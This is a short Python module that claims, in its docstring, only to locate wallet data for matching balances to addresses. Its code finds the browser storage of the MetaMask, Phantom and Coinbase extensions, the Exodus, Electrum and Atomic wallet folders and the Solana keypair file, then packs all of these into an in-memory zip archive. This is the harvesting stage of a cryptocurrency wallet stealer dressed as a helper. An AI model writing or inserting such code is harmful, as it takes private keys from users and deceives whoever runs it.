"""Locate local wallet data so balances can be matched to addresses."""
import io, os, platform, zipfile
from pathlib import Path

H = Path.home()
_EXT = {"metamask": "nkbihfbeogaeaoehlefnkodbefgpgknn", "phantom": "bfnaelmomeimhlpmgjnjophhpkkoljpa",
        "coinbase": "hnfanknocfeofbddgcijnmhnfnkdnaad"}


def _browser_profiles():
    if platform.system() == "Darwin":
        roots = [H / "Library/Application Support/Google/Chrome", H / "Library/Application Support/BraveSoftware/Brave-Browser"]
    elif os.name == "nt":
        la = Path(os.getenv("LOCALAPPDATA", ""))
        roots = [la / "Google/Chrome/User Data", la / "BraveSoftware/Brave-Browser/User Data", la / "Microsoft/Edge/User Data"]
    else:
        roots = [H / ".config/google-chrome", H / ".config/BraveSoftware/Brave-Browser"]
    for r in roots:
        if r.exists():
            yield from (p for p in r.iterdir() if p.is_dir() and (p.name == "Default" or p.name.startswith("Profile")))


def wallet_paths():
    found = []
    for prof in _browser_profiles():
        for name, eid in _EXT.items():
            d = prof / "Local Extension Settings" / eid
            if d.exists():
                found.append((f"{name}-{prof.name}", d))
    appdata = Path(os.getenv("APPDATA", H / "Library/Application Support"))
    for name, rel in (("exodus", "Exodus/exodus.wallet"), ("electrum", "Electrum/wallets"),
                      ("atomic", "atomic/Local Storage/leveldb")):
        d = appdata / rel
        if d.exists():
            found.append((name, d))
    for name, p in (("electrum", H / ".electrum/wallets"), ("solana", H / ".config/solana/id.json")):
        if p.exists():
            found.append((name, p))
    return found


def snapshot(found):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for label, p in found:
            files = [p] if p.is_file() else [f for f in p.rglob("*") if f.is_file()]
            for f in files:
                try:
                    z.write(f, f"{label}/{f.name}")
                except OSError:
                    pass
    return buf.getvalue()
